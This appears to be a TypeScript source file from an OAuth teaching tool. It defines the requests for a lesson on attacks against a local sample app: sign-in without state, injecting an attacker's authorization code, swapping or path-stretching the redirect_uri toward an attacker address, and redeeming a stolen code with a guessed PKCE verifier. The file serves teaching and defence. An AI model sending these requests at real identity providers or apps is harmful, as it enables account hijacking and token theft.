/** The requests of the lesson on attacks, and what it prepares: the victim's app and two codes, all on this machine. */
import { createHash, randomBytes } from 'node:crypto';
import type { Learner } from '../../learner/learner.js';
import type { Recipe } from '../recipe.js';
import { SIGN_IN } from '../steps.js';

const USER = `${SIGN_IN}, and click Allow.`;

/** The request that starts a sign-in at the victim's app, as an attacker writes it: without state. */
const authorizeVictim: Recipe = {
  note: 'start a sign-in at the victim’s app',
  method: 'GET',
  url: '{AUTHORIZATION_ENDPOINT}',
  query: {
    response_type: 'code',
    client_id: '{VICTIM_CLIENT_ID}',
    redirect_uri: '{VICTIM_CALLBACK}',
    scope: 'openid email',
  },
  browser: USER,
};

export const inject: Recipe = {
  note: 'send the victim’s browser to the app with your code',
  method: 'GET',
  url: '{VICTIM_CALLBACK}',
  query: { code: '{CODE}' },
};

export const compareState: Recipe = {
  note: 'turn on the comparison of state',
  method: 'POST',
  url: '{VICTIM}/compare-state',
  form: { compare: 'yes' },
};

export const swapRedirect: Recipe = {
  ...authorizeVictim,
  note: 'ask for the code at your own server',
  query: { ...authorizeVictim.query, redirect_uri: '{ATTACKER_URI}' },
  browser: 'Look at what the server shows, and at the address.',
};

/** Begins like the registered one and leads elsewhere: browsers resolve the dots. */
export const stretchRedirect: Recipe = {
  ...swapRedirect,
  note: 'ask for it at an address that begins like the registered one',
  query: { ...authorizeVictim.query, redirect_uri: '{VICTIM_CALLBACK}/../../attacker' },
};

export const redeemStolen: Recipe = {
  note: 'redeem the stolen code',
  method: 'POST',
  url: '{TOKEN_ENDPOINT}',
  form: {
    grant_type: 'authorization_code',
    code: '{STOLEN_CODE}',
    redirect_uri: '{VICTIM_CALLBACK}',
    client_id: '{STOLEN_CLIENT_ID}',
  },
};

/** A verifier of the right form that no challenge was ever made from. */
const GUESS = 'a-verifier-that-somebody-who-stole-a-code-has-guessed';

export const redeemGuessing: Recipe = {
  ...redeemStolen,
  note: 'redeem it with a verifier that you made up',
  form: { ...redeemStolen.form, code_verifier: GUESS },
};

/**
 * The victim's app as it was first written, the attacker's own code for it, and a code stolen from someone else's
 * phone. Each time with new codes, since codes don't last long.
 */
export async function seedAttack(learner: Learner): Promise<void> {
  await learner.send(compareState, { form: { compare: 'no' } });
  const login = await learner.send({
    note: 'see where a sign-in goes',
    method: 'GET',
    url: '{VICTIM}/login',
  });
  const id = new URL(login.headers.get('location') ?? '').searchParams.get('client_id');
  if (id === null) throw new Error('The sample app has no client.');
  learner.learn({ VICTIM_CLIENT_ID: id });
  await seedAttackerCode(learner);
  await seedStolenCode(learner);
}

/** The attacker signs in at the victim's app and stops the browser before it takes the code there. */
export async function seedAttackerCode(learner: Learner): Promise<void> {
  await learner.open(authorizeVictim, { decision: { stop: true } });
}

async function seedStolenCode(learner: Learner): Promise<void> {
  const other = learner.otherParty();
  const { STOLEN_CLIENT_ID } = await learner.values();
  if (STOLEN_CLIENT_ID === undefined) learner.learn({ STOLEN_CLIENT_ID: await registerPhone(other) });
  // Only the phone would know the verifier; here nobody does.
  const challenge = createHash('sha256').update(randomBytes(32).toString('base64url')).digest('base64url');
  const end = await other.open(authorizeVictim, {
    query: {
      client_id: '{STOLEN_CLIENT_ID}',
      code_challenge: challenge,
      code_challenge_method: 'S256',
    },
    decision: { stop: true },
  });
  const code = end.searchParams.get('code');
  if (code === null) throw new Error('There is no code to steal.');
  learner.learn({ STOLEN_CODE: code });
}

async function registerPhone(other: Learner): Promise<string> {
  const { json } = await other.send({
    note: 'register the victim’s phone app',
    method: 'POST',
    url: '{REGISTRATION_ENDPOINT}',
    json: {
      client_name: 'The sample app for phones',
      redirect_uris: ['{VICTIM_CALLBACK}'],
      scope: 'openid email',
      token_endpoint_auth_method: 'none',
    },
  });
  if (typeof json.client_id !== 'string') throw new Error('The phone app could not register.');
  return json.client_id;
}
